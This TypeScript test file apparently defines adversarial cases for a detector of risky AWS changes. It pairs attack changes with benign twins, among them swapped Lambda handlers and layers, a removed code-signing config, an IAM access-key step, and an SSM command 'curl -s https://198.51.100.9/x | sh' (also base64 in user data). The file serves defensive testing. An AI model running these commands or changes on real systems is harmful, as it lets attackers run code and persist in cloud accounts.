/** Nothing is deployed: what is there runs something else, by a name, a version, a variable or an order. */
import type { Json, JsonObject } from '#domain/json.ts';
import type { AdversarialCase } from '../../support/adversarial.ts';
import type { Called } from '../../support/calls.ts';
import { arn, instance, lambda, piece } from '../../support/shop.ts';
import { call, seen } from '../../support/shop-calls.ts';

const FUNCTION = arn('lambda', 'function:shop-worker');
const LAYER = arn('lambda', 'layer:tracing');
const configure = (over: JsonObject): Called =>
  call(
    'lambda',
    'UpdateFunctionConfiguration20150331v2',
    { functionName: 'shop-worker', ...over },
    { functionName: 'shop-worker', functionArn: FUNCTION, ...over },
  );
const alias = piece(
  'aws_lambda_alias.live',
  { name: 'live', function_name: FUNCTION, function_version: '3', description: '' },
  { id: `${FUNCTION}:live`, arn: `${FUNCTION}:live`, routing_config: [] },
);
const point = (over: JsonObject): Called =>
  call(
    'lambda',
    'UpdateAlias20150331',
    { functionName: 'shop-worker', name: 'live', ...over },
    { aliasArn: `${FUNCTION}:live`, name: 'live', ...over },
  );
const group = piece(
  'aws_autoscaling_group.web',
  { name: 'shop-web', min_size: 2, max_size: 6, launch_template: [{ id: 'lt-0aaaaaaaaaaaaaaa1', version: '3' }] },
  { id: 'shop-web', arn: arn('autoscaling', 'autoScalingGroup:1:autoScalingGroupName/shop-web'), default_cooldown: 300 },
);
const scale = (over: JsonObject): Called => call('autoscaling', 'UpdateAutoScalingGroup', { autoScalingGroupName: 'shop-web', ...over });
const association = piece(
  'aws_ssm_association.check',
  {
    name: 'AWS-RunShellScript',
    schedule_expression: 'rate(7 days)',
    parameters: { commands: 'uptime' },
    targets: [{ key: 'tag:Env', values: ['test'] }],
  },
  { id: '11111111-2222-4333-8444-000000000005', association_id: '11111111-2222-4333-8444-000000000005' },
);
const associate = (over: JsonObject): Called =>
  call(
    'ssm',
    'UpdateAssociation',
    {
      associationId: '11111111-2222-4333-8444-000000000005',
      parameters: { commands: ['uptime'] },
      targets: [{ key: 'tag:Env', values: ['test'] }],
      scheduleExpression: 'rate(7 days)',
      ...over,
    },
    { associationDescription: { associationId: '11111111-2222-4333-8444-000000000005', name: 'AWS-RunShellScript' } },
  );
const MACHINE = arn('states', 'stateMachine:shop-orders');
const steps = (over: JsonObject): string =>
  JSON.stringify({ StartAt: 'Do', States: { Do: { Type: 'Task', Resource: FUNCTION, TimeoutSeconds: 30, End: true, ...over } } });
const machine = piece(
  'aws_sfn_state_machine.orders',
  { name: 'shop-orders', role_arn: 'arn:aws:iam::123456789012:role/shop-orders', definition: steps({}) },
  { id: MACHINE, arn: MACHINE, type: 'STANDARD', tags: {}, tags_all: {} },
);
const redefine = (definition: string): { readonly calls: readonly Called[]; readonly refresh: readonly ReturnType<typeof seen>[] } => ({
  calls: [
    call('states', 'UpdateStateMachine', { stateMachineArn: MACHINE, definition: 'HIDDEN_DUE_TO_SECURITY_REASONS' }, { revisionId: '1' }),
  ],
  refresh: [seen(machine, { definition })],
});
const variables = (more: JsonObject): Json => ({ environment: [{ variables: { LEVEL: 'info', ...more } }] });
const worker = lambda('worker', { environment: [{ variables: { LEVEL: 'info' } }] });
const reconfigure = (more: JsonObject): { readonly calls: readonly Called[]; readonly refresh: readonly ReturnType<typeof seen>[] } => ({
  calls: [configure({ environment: {} })],
  refresh: [seen(worker, variables(more) as JsonObject)],
});
const signed = lambda('worker', { code_signing_config_arn: arn('lambda', 'code-signing-config:csc-00000000000000001') });

export const cases: readonly AdversarialCase[] = [
  {
    name: 'an alias points to another version',
    root: [lambda(), alias],
    about: ['aws_lambda_alias.live'],
    attack: { calls: [point({ functionVersion: '7' })] },
    fact: 'the alias gets a description',
    twin: { calls: [point({ description: 'what customers call' })] },
  },
  {
    name: 'every second call goes to another version',
    root: [lambda(), alias],
    about: ['aws_lambda_alias.live'],
    attack: { calls: [point({ routingConfig: { additionalVersionWeights: { '7': 0.5 } } })] },
    fact: 'the alias gets a description',
    twin: { calls: [point({ description: 'what partners call' })] },
  },
  {
    name: 'a layer has another version',
    root: [lambda('worker', { layers: [`${LAYER}:3`] })],
    about: ['aws_lambda_function.worker'],
    attack: { calls: [configure({ layers: [`${LAYER}:4`] })] },
    fact: 'only the timeout is raised',
    twin: { calls: [configure({ timeout: 60 })] },
  },
  {
    name: 'another handler of the same package is called',
    root: [lambda()],
    about: ['aws_lambda_function.worker'],
    attack: { calls: [configure({ handler: 'tools.shell' })] },
    fact: 'the function gets more memory',
    twin: { calls: [configure({ memorySize: 512 })] },
  },
  {
    name: 'a variable makes a runtime load other code',
    root: [worker],
    about: ['aws_lambda_function.worker'],
    attack: reconfigure({ AWS_LAMBDA_EXEC_WRAPPER: '/opt/start' }),
    fact: 'the variable belongs to the program',
    twin: reconfigure({ PAGE_SIZE: '50' }),
  },
  {
    name: 'unknown code may run',
    root: [signed],
    about: ['aws_lambda_function.worker'],
    attack: { calls: [call('lambda', 'DeleteFunctionCodeSigningConfig', { functionName: 'shop-worker' })] },
    fact: 'the function gets a longer timeout',
    twin: { calls: [configure({ timeout: 120 })] },
  },
  {
    name: 'a group starts instances with another template',
    root: [group],
    about: ['aws_autoscaling_group.web'],
    attack: { calls: [scale({ launchTemplate: { launchTemplateId: 'lt-0aaaaaaaaaaaaaaa1', version: '9' } })] },
    fact: 'the group starts more instances',
    twin: { calls: [scale({ maxSize: 8 })] },
  },
  {
    name: 'instances run another command every week',
    root: [association],
    about: ['aws_ssm_association.check'],
    attack: {
      calls: [associate({ parameters: { commands: ['curl -s https://198.51.100.9/x | sh'] } })],
      refresh: [seen(association, { parameters: { commands: 'curl -s https://198.51.100.9/x | sh' } })],
    },
    fact: 'instances run the same command every two weeks',
    twin: {
      calls: [associate({ scheduleExpression: 'rate(14 days)' })],
      refresh: [seen(association, { schedule_expression: 'rate(14 days)' })],
    },
  },
  {
    name: 'a command runs on more instances',
    root: [association],
    about: ['aws_ssm_association.check'],
    attack: {
      calls: [associate({ targets: [{ key: 'InstanceIds', values: ['*'] }] })],
      refresh: [seen(association, { targets: [{ key: 'InstanceIds', values: ['*'] }] })],
    },
    fact: 'the command runs every day',
    twin: {
      calls: [associate({ scheduleExpression: 'rate(1 day)' })],
      refresh: [seen(association, { schedule_expression: 'rate(1 day)' })],
    },
  },
  {
    name: 'a step creates access keys for users',
    root: [lambda(), machine],
    about: ['aws_sfn_state_machine.orders'],
    attack: redefine(steps({ Resource: 'arn:aws:states:::aws-sdk:iam:createAccessKey' })),
    fact: 'the step waits longer',
    twin: redefine(steps({ TimeoutSeconds: 60 })),
  },
  {
    name: 'an instance starts with other user data',
    root: [instance({ user_data: 'ZWNobyBoaQ==' })],
    about: ['aws_instance.app'],
    attack: {
      calls: [
        call(
          'ec2',
          'ModifyInstanceAttribute',
          { instanceId: 'i-0aaaaaaaaaaaaaaa1', userData: '<sensitiveDataRemoved>' },
          { _return: true },
        ),
      ],
      refresh: [seen(instance({ user_data: 'ZWNobyBoaQ==' }), { user_data: 'Y3VybCB4IHwgc2g=' })],
    },
    fact: 'the instance gets termination protection',
    twin: {
      calls: [
        call(
          'ec2',
          'ModifyInstanceAttribute',
          { instanceId: 'i-0aaaaaaaaaaaaaaa1', disableApiTermination: { value: true } },
          { _return: true },
        ),
      ],
    },
  },
];
